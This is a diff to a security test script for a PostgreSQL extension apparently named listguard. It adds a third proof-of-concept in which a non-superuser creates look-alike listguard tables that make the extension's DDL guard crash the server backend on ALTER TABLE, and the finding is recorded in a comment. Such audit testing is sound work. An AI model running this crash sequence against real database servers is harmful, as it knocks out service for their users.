@@ -18,6 +18,11 @@
 # making them over x.email and renaming schema x to listguard; then a plain
 # UPDATE of an enum column crashes in the planner hook (plan_written_back ->
 # is_placeholder_const).
+# Variant 3: look-alike listguard.grants/audit_log/protected_tables (any
+# column types) make the DDL guard read protected_tables' columns as names
+# and text (pg/protect/protection.cpp): any ALTER TABLE crashes.
+# RESULT: FINDING (H): all three kill their backend with SIGSEGV and the
+# postmaster reinitializes.
 # Expected secure outcome: an ordinary error or nothing; the server keeps
 # running.
 # Needs PGHOST, PGPORT (superuser postgres), SERVERLOG; a role that owns a
@@ -46,6 +51,21 @@ INSERT INTO public.t VALUES (1, 'a');
 ALTER SCHEMA x RENAME TO listguard;
 \c
 UPDATE public.t SET e = 'b' WHERE id = 1;
+SQL
+sleep 3
+for i in 1 2 3 4 5 6 7 8 9 10; do $P -U postgres -d postgres -Atc "select 1" >/dev/null 2>&1 && break; sleep 1; done
+echo "== variant 3: a look-alike protected_tables, read by the DDL guard"
+$P -U postgres -d postgres -c "DROP DATABASE IF EXISTS atk_crash" -c "CREATE DATABASE atk_crash OWNER a_masked" >/dev/null
+$P -U a_masked -d atk_crash <<'SQL' 2>&1
+CREATE SCHEMA listguard;
+CREATE TYPE listguard.email AS ENUM ('a');
+CREATE TABLE listguard.grants (x int);
+CREATE TABLE listguard.audit_log (x int);
+CREATE TABLE listguard.protected_tables (relid oid, account_column int, list_column int, audit int);
+CREATE TABLE public.victim (id int);
+INSERT INTO listguard.protected_tables VALUES ('public.victim'::regclass, 1, 2, 3);
+\c
+ALTER TABLE public.victim ADD COLUMN y int;
 SQL
 sleep 3
 for i in 1 2 3 4 5 6 7 8 9 10; do $P -U postgres -d postgres -Atc "select 1" >/dev/null 2>&1 && break; sleep 1; done
